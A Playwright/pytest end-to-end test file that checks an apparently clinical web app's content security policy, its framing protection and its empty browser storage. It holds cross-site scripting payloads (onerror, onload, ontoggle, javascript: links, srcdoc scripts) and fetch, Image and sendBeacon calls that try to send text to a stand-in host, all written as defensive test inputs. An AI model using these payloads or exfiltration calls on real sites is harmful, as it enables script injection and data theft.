"""The content security policy in a real browser: a second wall behind the escaping."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.conftest import App, Watched, watch

pytestmark = pytest.mark.browser

INJECT = """html => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation",
        event => window.violations.push(event.effectiveDirective));
    document.body.insertAdjacentHTML("beforeend", html);
}"""
INSERT_SCRIPT = """() => {
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.body.append(script);
}"""


@pytest.fixture
def page(app: App, browser: Browser, cookies: Any) -> Iterator[Page]:
    """A signed-in page that may complain: refusals are what is tested."""
    context = browser.new_context(storage_state=cookies)
    page = context.new_page()
    page.goto(app.url)
    page.wait_for_selector("#start-draft")
    yield page
    context.close()


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="/nothing" onerror="window.ran = true">',
        '<svg onload="window.ran = true"></svg>',
        '<details open ontoggle="window.ran = true"><summary>x</summary></details>',
    ],
)
def test_markup_that_got_in_does_not_run(page: Page, markup: str) -> None:
    page.evaluate(INJECT, markup)
    page.wait_for_function("window.violations.length > 0")
    assert page.evaluate("window.ran") is None


def test_a_script_element_that_got_in_does_not_run(page: Page) -> None:
    page.evaluate(INJECT, "")
    page.evaluate(INSERT_SCRIPT)
    page.wait_for_function("window.violations.length > 0")
    assert page.evaluate("window.ran") is None


def test_a_frame_inherits_the_policy(page: Page) -> None:
    page.evaluate(
        INJECT, '<iframe srcdoc="<p>here</p><script>parent.ran = true</script>"></iframe>'
    )
    expect(page.frame_locator("iframe[srcdoc]").get_by_text("here")).to_be_visible()
    assert page.evaluate("window.ran") is None


def test_a_script_link_does_not_run(page: Page) -> None:
    page.evaluate(INJECT, '<a id="bad" href="javascript:window.ran = true">x</a>')
    page.evaluate("document.querySelector('#bad').click()")
    page.wait_for_function("window.violations.length > 0")
    assert page.evaluate("window.ran") is None


@pytest.mark.parametrize(
    "code",
    [
        "fetch('http://192.0.2.1/?text')",
        "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no;"
        " i.src = 'http://192.0.2.1/?text'; })",
        "navigator.sendBeacon('http://192.0.2.1/', 'text') || Promise.reject()",
    ],
)
def test_text_cannot_be_sent_elsewhere(page: Page, code: str) -> None:
    page.evaluate(INJECT, "")
    page.evaluate(f"Promise.resolve({code}).catch(() => 0).then(() => 0)")
    page.wait_for_function("window.violations.length > 0")
    assert page.evaluate("window.violations.length") > 0


def test_the_page_cannot_be_framed(app: App, browser: Browser, cookies: Any) -> None:
    context = browser.new_context(storage_state=cookies)
    page = context.new_page()
    page.goto(f"{app.url}/healthz")
    page.set_content(f'<iframe src="{app.url}/"></iframe>')
    page.wait_for_timeout(1000)
    inner = page.frames[1]
    assert inner.locator("#start-draft").count() == 0
    context.close()


def test_the_api_docs_work_with_the_network_cut(app: App, browser: Browser) -> None:
    context = browser.new_context()
    watched = watch(context)
    watched.page.goto(f"{app.url}/docs")
    expect(watched.page.locator(".opblock")).not_to_have_count(0)
    expect(watched.page.locator("body")).to_contain_text("Not a medical device.")
    assert watched.outward() == []
    assert watched.complaints == []
    context.close()


def test_the_storage_of_the_browser_stays_empty(watched: Watched) -> None:
    assert watched.page.evaluate("Object.keys(localStorage)") == []
    names = "(async () => (await indexedDB.databases()).map(d => d.name))()"
    assert watched.page.evaluate(names) == []


def test_strangers_see_how_to_sign_in(app: App, browser: Browser) -> None:
    context = browser.new_context()
    watched = watch(context)
    watched.page.goto(app.url)
    expect(watched.page.locator("body")).to_contain_text("rounds link")
    assert watched.outward() == []
    context.close()
